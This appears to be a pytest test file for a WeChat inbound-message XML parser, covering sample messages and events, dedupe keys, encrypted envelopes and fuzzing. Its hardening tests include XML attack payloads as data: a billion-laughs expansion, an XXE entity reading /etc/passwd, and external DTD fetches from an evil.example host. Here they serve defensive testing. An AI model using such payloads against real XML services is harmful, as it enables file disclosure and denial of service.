"""app/wechat/messages.py: every shared sample, hardening against hostile XML, and fuzzing."""

from __future__ import annotations

import contextlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from wechatpy import parse_message

from app.wechat.messages import (
    ClickEvent,
    EventMessage,
    ImageMessage,
    InboundMessage,
    InboundMessageError,
    LinkMessage,
    LocationEvent,
    LocationMessage,
    LocationSelectEvent,
    MassSendJobFinishEvent,
    PicEvent,
    ScanCodeEvent,
    ScanEvent,
    ShortVideoMessage,
    SubscribeEvent,
    SubscribeMsgChangeEvent,
    SubscribeMsgItem,
    SubscribeMsgPopupEvent,
    SubscribeMsgSentEvent,
    TemplateSendJobFinishEvent,
    TextMessage,
    UnknownEvent,
    UnknownMessage,
    UnsubscribeEvent,
    VideoMessage,
    ViewEvent,
    ViewMiniprogramEvent,
    VoiceMessage,
    message_from_fields,
    parse_envelope,
    parse_fields,
    parse_inbound,
)

SAMPLES = Path("/work/shared/wechat/samples")
OPENID = "oAbCdEfGhIjKlMnOpQrStUvWxYz0"
GH = "gh_0123456789ab"
TEMPLATE_A = "VRR0UEO9VJOLs0MHlU0OilqX6MVFDwH3_3gz3Oc0NIc"
TEMPLATE_B = "9nLIlbOQZC5Y89AZteFEux3WCXRRRG5Wfzkpssu4bLI"
TICKET = "gQH47joAAAAAAAAAASxodHRwOi8vd2VpeGluLnFxLmNvbS9xL2lVcXZ3"
SAMPLE_FILES = sorted(
    p
    for p in [*SAMPLES.glob("*.xml"), *SAMPLES.glob("variants/*.xml")]
    if "encrypted" not in p.name
)


def _sample(name: str) -> InboundMessage:
    message = parse_inbound((SAMPLES / name).read_bytes())
    assert (message.to_user, message.from_user, message.openid) == (GH, OPENID, OPENID)
    return message


def _doc(*elements: str, root: str = "xml") -> bytes:
    return f"<{root}>{''.join(elements)}</{root}>".encode()


HEADER = (
    f"<ToUserName><![CDATA[{GH}]]></ToUserName>",
    f"<FromUserName><![CDATA[{OPENID}]]></FromUserName>",
    "<CreateTime>1700000000</CreateTime>",
)
TEXT_BODY = ("<MsgType><![CDATA[text]]></MsgType>", "<Content>hi</Content>", "<MsgId>1</MsgId>")


class TestMessageSamples:
    def test_text(self) -> None:
        m = _sample("text.xml")
        assert isinstance(m, TextMessage)
        assert (m.msg_type, m.create_time, m.content) == ("text", 1700000000, "查询持仓 holdings")
        assert m.msg_id == 24123456789012345
        assert (m.msg_data_id, m.idx) == (None, None)
        assert m.dedupe_key == "m:24123456789012345"

    def test_text_from_article_comment(self) -> None:
        m = _sample("variants/text_from_article_comment.xml")
        assert isinstance(m, TextMessage)
        assert (m.content, m.msg_id) == ("评论回复", 24123456789012399)
        assert (m.msg_data_id, m.idx) == ("2247483690", 1)

    def test_image(self) -> None:
        m = _sample("image.xml")
        assert isinstance(m, ImageMessage)
        assert m.pic_url == "http://mmbiz.qpic.cn/mmbiz_jpg/EXAMPLE/0"
        assert (m.media_id, m.msg_id) == ("MEDIA_ID_IMAGE_abc123", 24123456789012346)

    def test_voice(self) -> None:
        m = _sample("voice.xml")
        assert isinstance(m, VoiceMessage)
        assert (m.media_id, m.format, m.msg_id) == (
            "MEDIA_ID_VOICE_abc123",
            "amr",
            24123456789012347,
        )
        assert (m.recognition, m.media_id_16k) == (None, None)

    def test_voice_with_recognition(self) -> None:
        m = _sample("variants/voice_with_recognition.xml")
        assert isinstance(m, VoiceMessage)
        assert (m.recognition, m.msg_id) == ("腾讯微信团队", 24123456789012398)

    def test_voice_with_mediaid16k(self) -> None:
        m = _sample("variants/voice_with_mediaid16k.xml")
        assert isinstance(m, VoiceMessage)
        assert (m.media_id_16k, m.recognition) == ("MEDIA_ID_16K_abc123", None)

    def test_video(self) -> None:
        m = _sample("video.xml")
        assert type(m) is VideoMessage
        assert (m.media_id, m.thumb_media_id) == ("MEDIA_ID_VIDEO_abc123", "THUMB_MEDIA_ID_abc123")
        assert m.msg_id == 24123456789012348

    def test_shortvideo(self) -> None:
        m = _sample("shortvideo.xml")
        assert isinstance(m, ShortVideoMessage)
        assert (m.msg_type, m.media_id) == ("shortvideo", "MEDIA_ID_SHORTVIDEO_abc123")
        assert (m.thumb_media_id, m.msg_id) == ("THUMB_MEDIA_ID_def456", 24123456789012349)

    def test_location(self) -> None:
        m = _sample("location.xml")
        assert isinstance(m, LocationMessage)
        assert (m.location_x, m.location_y, m.scale) == (23.134521, 113.358803, 20)
        assert (m.label, m.msg_id) == ("广州市海珠区新港中路397号", 24123456789012350)

    def test_link(self) -> None:
        m = _sample("link.xml")
        assert isinstance(m, LinkMessage)
        assert (m.title, m.description) == ("市场周报", "本周市场回顾")
        assert (m.url, m.msg_id) == ("https://example.com/weekly", 24123456789012351)


class TestEventSamples:
    def test_subscribe(self) -> None:
        m = _sample("event_subscribe.xml")
        assert isinstance(m, SubscribeEvent)
        assert (m.msg_type, m.event, m.event_key, m.scene, m.ticket) == (
            "event",
            "subscribe",
            "",
            None,
            None,
        )
        assert m.dedupe_key == f"e:{OPENID}:1700000100:subscribe:"

    def test_subscribe_empty_eventkey(self) -> None:
        m = _sample("variants/event_subscribe_empty_eventkey.xml")
        assert isinstance(m, SubscribeEvent)
        assert (m.event_key, m.scene, m.create_time) == ("", None, 1700000101)

    def test_subscribe_by_qr_scene_strips_prefix(self) -> None:
        m = _sample("event_subscribe_qrscene.xml")
        assert isinstance(m, SubscribeEvent)
        assert (m.event_key, m.scene, m.ticket) == ("qrscene_campaign42", "campaign42", TICKET)
        assert m.dedupe_key == f"e:{OPENID}:1700000110:subscribe:qrscene_campaign42"

    def test_unsubscribe(self) -> None:
        m = _sample("event_unsubscribe.xml")
        assert isinstance(m, UnsubscribeEvent)
        assert (m.event, m.event_key, m.create_time) == ("unsubscribe", "", 1700000120)

    def test_unsubscribe_empty_eventkey(self) -> None:
        m = _sample("variants/event_unsubscribe_empty_eventkey.xml")
        assert isinstance(m, UnsubscribeEvent)
        assert m.event_key == ""

    def test_scan(self) -> None:
        m = _sample("event_scan.xml")
        assert isinstance(m, ScanEvent)
        assert (m.event, m.event_key, m.scene, m.ticket) == (
            "scan",
            "campaign42",
            "campaign42",
            TICKET,
        )

    def test_location(self) -> None:
        m = _sample("event_location.xml")
        assert isinstance(m, LocationEvent)
        assert (m.event, m.latitude, m.longitude, m.precision) == (
            "location",
            23.137466,
            113.352425,
            119.38504,
        )

    def test_click(self) -> None:
        m = _sample("event_click.xml")
        assert isinstance(m, ClickEvent)
        assert (m.event, m.event_key) == ("click", "MENU_ACCOUNT_OVERVIEW")
        assert m.dedupe_key == f"e:{OPENID}:1700000150:click:MENU_ACCOUNT_OVERVIEW"

    def test_view(self) -> None:
        m = _sample("event_view.xml")
        assert isinstance(m, ViewEvent)
        assert (m.event, m.url, m.event_key) == ("view", "https://example.com/account", m.url)
        assert m.menu_id == "412345678"

    def test_view_miniprogram(self) -> None:
        m = _sample("event_view_miniprogram.xml")
        assert isinstance(m, ViewMiniprogramEvent)
        assert (m.event, m.page_path, m.menu_id) == (
            "view_miniprogram",
            "pages/index/index",
            "412345678",
        )

    def test_scancode_push(self) -> None:
        m = _sample("event_scancode_push.xml")
        assert isinstance(m, ScanCodeEvent)
        assert (m.event, m.event_key) == ("scancode_push", "MENU_SCAN")
        assert (m.scan_type, m.scan_result) == ("qrcode", "https://example.com/qr/1")

    def test_scancode_waitmsg(self) -> None:
        m = _sample("event_scancode_waitmsg.xml")
        assert isinstance(m, ScanCodeEvent)
        assert (m.event, m.scan_type, m.scan_result) == (
            "scancode_waitmsg",
            "barcode",
            "EAN_13,6901234567892",
        )

    def test_pic_sysphoto(self) -> None:
        m = _sample("event_pic_sysphoto.xml")
        assert isinstance(m, PicEvent)
        assert (m.event, m.event_key, m.count) == ("pic_sysphoto", "MENU_PHOTO", 1)
        assert m.pic_md5_sums == ("1b5f7c23b5bf75682a53e7b6d163e185",)

    def test_pic_photo_or_album_with_two_pictures(self) -> None:
        m = _sample("event_pic_photo_or_album.xml")
        assert isinstance(m, PicEvent)
        assert (m.event, m.count) == ("pic_photo_or_album", 2)
        assert m.pic_md5_sums == (
            "5a75aaca956d97be686719218f275c6b",
            "0c1a2b3c4d5e6f708192a3b4c5d6e7f8",
        )

    def test_pic_weixin(self) -> None:
        m = _sample("event_pic_weixin.xml")
        assert isinstance(m, PicEvent)
        assert (m.event, m.pic_md5_sums) == ("pic_weixin", ("5a75aaca956d97be686719218f275c6b",))

    def test_location_select(self) -> None:
        m = _sample("event_location_select.xml")
        assert isinstance(m, LocationSelectEvent)
        assert (m.event, m.event_key) == ("location_select", "MENU_LOCATION")
        assert (m.location_x, m.location_y, m.scale) == (23.0, 113.0, 15)
        assert (m.label, m.poiname) == (" 广州市海珠区客村艺苑路 106号", "")

    def test_templatesendjobfinish_success(self) -> None:
        m = _sample("event_templatesendjobfinish_success.xml")
        assert isinstance(m, TemplateSendJobFinishEvent)
        assert (m.event, m.msg_id, m.status, m.ok) == (
            "templatesendjobfinish",
            2890123456789,
            "success",
            True,
        )

    def test_templatesendjobfinish_user_block(self) -> None:
        m = _sample("event_templatesendjobfinish_user_block.xml")
        assert isinstance(m, TemplateSendJobFinishEvent)
        assert (m.msg_id, m.status, m.ok) == (2890123456790, "failed:user block", False)

    def test_templatesendjobfinish_system_failed(self) -> None:
        m = _sample("event_templatesendjobfinish_system_failed.xml")
        assert isinstance(m, TemplateSendJobFinishEvent)
        assert (m.msg_id, m.status, m.ok) == (2890123456791, "failed: system failed", False)

    def test_masssendjobfinish(self) -> None:
        m = _sample("event_masssendjobfinish.xml")
        assert isinstance(m, MassSendJobFinishEvent)
        assert (m.event, m.msg_id, m.status, m.ok) == (
            "masssendjobfinish",
            1000001625,
            "send success",
            True,
        )
        counts = (m.total_count, m.filter_count, m.sent_count, m.error_count)
        assert counts == (100, 80, 75, 5)
        assert m.raw["ArticleUrlResult"]["ResultList"]["item"]["ArticleIdx"] == "1"

    def test_masssendjobfinish_err_status(self) -> None:
        m = _sample("variants/event_masssendjobfinish_err.xml")
        assert isinstance(m, MassSendJobFinishEvent)
        assert (m.msg_id, m.status, m.ok, m.total_count) == (1000001626, "err(30003)", False, 0)

    def test_subscribe_msg_popup_with_two_lists(self) -> None:
        m = _sample("event_subscribe_msg_popup.xml")
        assert isinstance(m, SubscribeMsgPopupEvent)
        assert m.event == "subscribe_msg_popup_event"
        assert m.items == (
            SubscribeMsgItem(template_id=TEMPLATE_A, subscribe_status="accept", popup_scene=2),
            SubscribeMsgItem(template_id=TEMPLATE_B, subscribe_status="reject", popup_scene=2),
        )

    def test_subscribe_msg_change_with_one_list(self) -> None:
        m = _sample("event_subscribe_msg_change.xml")
        assert isinstance(m, SubscribeMsgChangeEvent)
        assert m.event == "subscribe_msg_change_event"
        assert m.items == (SubscribeMsgItem(template_id=TEMPLATE_A, subscribe_status="reject"),)

    def test_subscribe_msg_change_in_popup_wrapper(self) -> None:
        m = _sample("variants/event_subscribe_msg_change_popup_wrapper.xml")
        assert isinstance(m, SubscribeMsgChangeEvent)
        assert m.items == (SubscribeMsgItem(template_id=TEMPLATE_A, subscribe_status="reject"),)

    def test_subscribe_msg_sent(self) -> None:
        m = _sample("event_subscribe_msg_sent.xml")
        assert isinstance(m, SubscribeMsgSentEvent)
        assert m.event == "subscribe_msg_sent_event"
        assert m.items == (
            SubscribeMsgItem(
                template_id=TEMPLATE_A,
                msg_id=1700827132819554304,
                error_code=0,
                error_status="success",
            ),
        )

    def test_unknown_future_event(self) -> None:
        m = _sample("variants/event_unknown_future.xml")
        assert type(m) is UnknownEvent
        assert (m.event, m.event_key) == ("some_new_event_2099", "x")
        assert m.dedupe_key == f"e:{OPENID}:1700000900:some_new_event_2099:x"


class TestSampleCoverage:
    @pytest.mark.parametrize("path", SAMPLE_FILES, ids=lambda p: p.name)
    def test_every_sample_parses_to_a_known_class(self, path: Path) -> None:
        message = parse_inbound(path.read_bytes())
        expected_unknown = path.name == "event_unknown_future.xml"
        assert isinstance(message, UnknownEvent | UnknownMessage) == expected_unknown

    @pytest.mark.parametrize("path", SAMPLE_FILES, ids=lambda p: p.name)
    def test_agrees_with_wechatpy_on_common_fields(self, path: Path) -> None:
        ours = parse_inbound(path.read_bytes())
        oracle = parse_message(path.read_text())
        assert (ours.to_user, ours.from_user) == (oracle.target, oracle.source)
        assert ours.create_time == int(oracle.create_time.timestamp())
        if not isinstance(ours, EventMessage):
            assert ours.msg_type == oracle.type
            assert ours.dedupe_key == f"m:{oracle.id}"


class TestDedupeKeys:
    def test_template_reports_in_one_second_do_not_collide(self) -> None:
        first = _sample("event_templatesendjobfinish_success.xml")
        fields = dict(first.raw, MsgID="2890123456800")
        second = message_from_fields(fields)
        assert first.create_time == second.create_time
        assert first.dedupe_key != second.dedupe_key

    def test_unknown_message_with_msg_id_uses_it(self) -> None:
        m = parse_inbound(_doc(*HEADER, "<MsgType>miniprogrampage</MsgType>", "<MsgId>77</MsgId>"))
        assert isinstance(m, UnknownMessage)
        assert (m.msg_type, m.msg_id, m.dedupe_key) == ("miniprogrampage", 77, "m:77")

    def test_unknown_message_without_msg_id_uses_header(self) -> None:
        m = parse_inbound(_doc(*HEADER, "<MsgType>newkind</MsgType>"))
        assert isinstance(m, UnknownMessage)
        assert m.dedupe_key == f"u:{OPENID}:1700000000:newkind"

    def test_event_names_are_normalised_to_lower_case(self) -> None:
        m = parse_inbound(_doc(*HEADER, "<MsgType>EVENT</MsgType>", "<Event>Subscribe</Event>"))
        assert isinstance(m, SubscribeEvent)
        assert (m.msg_type, m.event) == ("event", "subscribe")


class TestHardening:
    @pytest.mark.parametrize(
        "body",
        [
            # billion laughs: rejected when the DOCTYPE opens, before any entity is declared
            b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
            b"<xml><Content>&lol2;</Content></xml>",
            # XXE
            b'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b"<xml><Content>&xxe;</Content></xml>",
            # parameter entity reaching out
            b'<!DOCTYPE xml [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">%dtd;]><xml/>',
            b'<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml/>',
            b"<!DOCTYPE xml><xml/>",
            b'<?xml version="1.0"?>\n<!-- hi --><!DOCTYPE xml []><xml/>',
        ],
        ids=["billion-laughs", "xxe", "parameter-entity", "external-dtd", "bare-doctype", "late"],
    )
    def test_any_doctype_is_refused(self, body: bytes) -> None:
        with pytest.raises(InboundMessageError, match="DTD"):
            parse_inbound(body)

    def test_undeclared_entity_is_refused(self) -> None:
        with pytest.raises(InboundMessageError, match="undefined entity"):
            parse_fields(b"<xml><Content>&nbsp;</Content></xml>")

    def test_predefined_and_character_references_are_plain_text(self) -> None:
        fields = parse_fields(b"<xml><Content>a &amp; b &lt;&#x4e2d;&#25991;</Content></xml>")
        assert fields["Content"] == "a & b <中文"

    @pytest.mark.parametrize(
        "body",
        [
            b"",
            b"   ",
            b"<xml><Content>\xff\xfe</Content></xml>",
            b"<xml><Content>\xed\xa0\x80</Content></xml>",
            b"<xml><Content>\x00</Content></xml>",
            b"<xml><ToUserName>gh</ToUserName>",
            b"<xml><ToUserName>gh</ToUser",
            b"<xml></xml><xml></xml>",
            b"<xml><a></b></xml>",
            b"plain text",
        ],
        ids=[
            "empty",
            "blank",
            "invalid-utf8",
            "utf8-surrogate",
            "nul",
            "truncated",
            "truncated-tag",
            "two-roots",
            "mismatched",
            "not-xml",
        ],
    )
    def test_malformed_xml_is_refused(self, body: bytes) -> None:
        with pytest.raises(InboundMessageError):
            parse_inbound(body)

    def test_declared_encoding_is_ignored_in_favour_of_utf8(self) -> None:
        body = '<?xml version="1.0" encoding="GBK"?><xml><Content>中文</Content></xml>'.encode()
        assert parse_fields(body) == {"Content": "中文"}

    @pytest.mark.parametrize("root", ["root", "XML", "soap:Envelope"])
    def test_root_must_be_xml(self, root: str) -> None:
        with pytest.raises(InboundMessageError, match="root"):
            parse_inbound(_doc(*HEADER, *TEXT_BODY, root=root))

    def test_deep_nesting_is_refused(self) -> None:
        with pytest.raises(InboundMessageError, match="deeply"):
            parse_fields(b"<xml>" + b"<a>" * 50 + b"</a>" * 50 + b"</xml>")

    def test_duplicate_top_level_element_is_refused(self) -> None:
        with pytest.raises(InboundMessageError, match="duplicate"):
            parse_inbound(_doc(*HEADER, *TEXT_BODY, "<FromUserName>attacker</FromUserName>"))

    def test_body_must_be_bytes(self) -> None:
        with pytest.raises(TypeError):
            parse_inbound("<xml/>")  # type: ignore[arg-type]

    @pytest.mark.parametrize("missing", range(3))
    def test_missing_header_field_is_refused(self, missing: int) -> None:
        header = [h for i, h in enumerate(HEADER) if i != missing]
        with pytest.raises(InboundMessageError):
            parse_inbound(_doc(*header, *TEXT_BODY))

    def test_missing_msg_type_is_refused(self) -> None:
        with pytest.raises(InboundMessageError, match="MsgType"):
            parse_inbound(_doc(*HEADER, "<Content>hi</Content>", "<MsgId>1</MsgId>"))

    def test_empty_from_user_is_refused(self) -> None:
        with pytest.raises(InboundMessageError, match="FromUserName"):
            parse_inbound(_doc(HEADER[0], "<FromUserName></FromUserName>", HEADER[2], *TEXT_BODY))

    @pytest.mark.parametrize("value", ["", "abc", "-1", "1.5", "1e9", "١٢٣", "²", "1" * 21])
    def test_create_time_must_be_an_unsigned_integer(self, value: str) -> None:
        header = (*HEADER[:2], f"<CreateTime>{value}</CreateTime>")
        with pytest.raises(InboundMessageError, match="CreateTime"):
            parse_inbound(_doc(*header, *TEXT_BODY))

    @pytest.mark.parametrize("value", ["", "x1", "12.0", "+3"])
    def test_msg_id_must_be_an_unsigned_integer(self, value: str) -> None:
        body = (*TEXT_BODY[:2], f"<MsgId>{value}</MsgId>")
        with pytest.raises(InboundMessageError, match="MsgId"):
            parse_inbound(_doc(*HEADER, *body))

    def test_template_report_msg_id_must_be_an_integer(self) -> None:
        event = ("<MsgType>event</MsgType>", "<Event>TEMPLATESENDJOBFINISH</Event>")
        with pytest.raises(InboundMessageError, match="MsgID"):
            parse_inbound(_doc(*HEADER, *event, "<MsgID>abc</MsgID>", "<Status>success</Status>"))

    def test_structured_field_where_text_expected_is_refused(self) -> None:
        with pytest.raises(InboundMessageError, match="Content"):
            parse_inbound(_doc(*HEADER, TEXT_BODY[0], "<Content><b>x</b></Content>", TEXT_BODY[2]))

    @pytest.mark.parametrize("value", ["north", "nan", "inf"])
    def test_location_coordinates_must_be_finite_numbers(self, value: str) -> None:
        body = (
            "<MsgType>location</MsgType>",
            f"<Location_X>{value}</Location_X>",
            "<MsgId>1</MsgId>",
        )
        with pytest.raises(InboundMessageError, match="Location_X"):
            parse_inbound(_doc(*HEADER, *body))

    @settings(max_examples=500, deadline=None)
    @given(st.binary(max_size=4096))
    def test_arbitrary_bytes_raise_only_our_error(self, body: bytes) -> None:
        with contextlib.suppress(InboundMessageError):
            parse_inbound(body)

    @settings(max_examples=300, deadline=None)
    @given(st.sampled_from(SAMPLE_FILES), st.data())
    def test_mutated_samples_raise_only_our_error(self, path: Path, data: st.DataObject) -> None:
        body = bytearray(path.read_bytes())
        for _ in range(data.draw(st.integers(1, 4))):
            index = data.draw(st.integers(0, len(body) - 1))
            body[index] = data.draw(st.integers(0, 255))
        cut = data.draw(st.integers(0, len(body)))
        with contextlib.suppress(InboundMessageError):
            parse_inbound(bytes(body[:cut] if data.draw(st.booleans()) else body))


class TestParseEnvelope:
    def test_safe_mode(self) -> None:
        envelope = parse_envelope((SAMPLES / "encrypted_safe_mode.xml").read_bytes())
        assert envelope.to_user == GH
        assert envelope.encrypt is not None
        assert envelope.encrypt.startswith("/jpIQmIUTZ")
        assert set(envelope.fields) == {"ToUserName", "Encrypt"}

    def test_compatible_mode_keeps_plain_fields(self) -> None:
        envelope = parse_envelope((SAMPLES / "encrypted_compatible_mode.xml").read_bytes())
        assert envelope.encrypt is not None
        message = message_from_fields(envelope.fields)
        assert isinstance(message, TextMessage)
        assert message.content == "balance"

    def test_plaintext_mode_has_no_encrypt(self) -> None:
        envelope = parse_envelope((SAMPLES / "text.xml").read_bytes())
        assert (envelope.to_user, envelope.encrypt) == (GH, None)
        assert isinstance(message_from_fields(envelope.fields), TextMessage)

    @pytest.mark.parametrize("encrypt", ["<Encrypt></Encrypt>", "<Encrypt><a>1</a></Encrypt>"])
    def test_empty_or_structured_encrypt_is_refused(self, encrypt: str) -> None:
        with pytest.raises(InboundMessageError, match="Encrypt"):
            parse_envelope(_doc(HEADER[0], encrypt))

    def test_hostile_envelope_is_refused(self) -> None:
        with pytest.raises(InboundMessageError):
            parse_envelope(b'<!DOCTYPE x [<!ENTITY a "b">]><xml><Encrypt>&a;</Encrypt></xml>')
